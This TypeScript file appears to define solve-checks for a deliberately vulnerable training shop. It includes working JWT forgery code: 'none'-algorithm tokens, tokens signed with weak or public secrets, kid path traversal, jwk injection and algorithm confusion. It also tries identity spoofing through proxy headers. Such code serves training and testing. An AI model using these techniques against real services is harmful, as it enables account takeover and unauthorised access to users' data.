import { createHmac } from 'node:crypto';
import {
  readMemberProfile,
  hasReply,
  createReads,
  changesState,
  isOk,
  createLogin,
  hasText,
  type Challenge,
  type Attempt,
} from './challenge.ts';

const encodePart = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
/** Creates a token that is signed with another key, or unsigned. */
function forgeToken(sub: string, header: object, key?: string | Buffer): string {
  const now = Math.floor(Date.now() / 1_000);
  const claims = { sub, ver: 0, iat: now, exp: now + 9_999, iss: 'homechef-market', aud: 'homechef-market' };
  const body = `${encodePart({ typ: 'JWT', ...header })}.${encodePart(claims)}`;
  return `${body}.${key === undefined ? '' : createHmac('sha256', key).update(body).digest('base64url')}`;
}

const createReadsWithHeaders = (headers: Record<string, string>): Attempt[] => [
  ['get', '/api/users/profile', { headers }],
  ['get', '/api/users', { headers }],
  ['get', '/api/orders', { headers }],
];

export const tokens: readonly Challenge[] = [
  {
    name: 'Unsigned JWT',
    attack: 'send a token with the algorithm none',
    successSign: 'a reply for that account',
    isSolved: (shop) => {
      const unsignedTokens = ['none', 'None', 'NONE', 'nOnE', ''].map((alg) =>
        forgeToken(shop.admin._id, { alg }),
      );
      return hasReply(shop, unsignedTokens.flatMap(createReads), isOk);
    },
  },
  {
    name: 'Forged Signed JWT',
    attack: 'sign a token with public text or a weak secret',
    successSign: 'a reply for that account',
    isSolved: async (shop) => {
      const { app, admin } = shop;
      const { text } = await app.call('get', '/api/openapi.json');
      const keys = [
        '',
        'secret',
        'homechef-market',
        'HomeChef Market',
        'x'.repeat(32),
        '\0',
        'undefined',
        text,
        admin._id,
      ];
      const signed = keys.map((key) => forgeToken(admin._id, { alg: 'HS256' }, key));
      const tokenWithKeyPath = forgeToken(admin._id, { alg: 'HS256', kid: '../../../dev/null' }, '');
      const tokenWithOwnKey = forgeToken(admin._id, { alg: 'HS256', jwk: { kty: 'oct', k: 'eA' } }, 'x');
      const asymmetric = forgeToken(admin._id, { alg: 'RS256' }, text);
      return hasReply(
        shop,
        [...signed, tokenWithKeyPath, tokenWithOwnKey, asymmetric].flatMap(createReads),
        isOk,
      );
    },
  },
  {
    name: 'Login CISO',
    attack: 'name the account in proxy headers',
    successSign: 'a reply for that account',
    isSolved: (shop) => {
      const { email, _id } = shop.admin;
      const headers = [
        'X-User-Email',
        'X-User',
        'X-Forwarded-User',
        'X-Forwarded-Email',
        'X-Remote-User',
        'X-Original-User',
      ];
      const attempts = headers.flatMap((name) => [
        ...createReadsWithHeaders({ [name]: email }),
        ...createReadsWithHeaders({ [name]: _id }),
      ]);
      const basic = Buffer.from(`${email}:`).toString('base64');
      const otherSchemes = [
        `Basic ${basic}`,
        `Bearer ${_id}`,
        'Bearer undefined',
        'Bearer null',
        `Token ${_id}`,
      ];
      const signIn = createLogin(shop.member.email, 'wrong words', { 'X-User-Email': email });
      return hasReply(
        shop,
        [
          ...attempts,
          ...otherSchemes.flatMap((Authorization) => createReadsWithHeaders({ Authorization })),
          signIn,
        ],
        isOk,
      );
    },
  },
  {
    name: 'Two Factor Authentication',
    attack: 'search replies for data that allows a sign-in',
    successSign: 'a hash, a token version or a secret',
    isSolved: async (shop) => {
      const tokens = [shop.admin.token, shop.attacker.token];
      const paths = ['/api/users', '/api/users/profile', '/api/orders', '/api/products?drafts=1'];
      const attempts = tokens.flatMap((token) => paths.map((path): Attempt => ['get', path, { token }]));
      const isExposed = await hasReply(shop, attempts, hasText(/password|tokenVersion|\$2b\$|secret/i));
      return isExposed || (await changesState(shop, attempts, readMemberProfile));
    },
  },
];
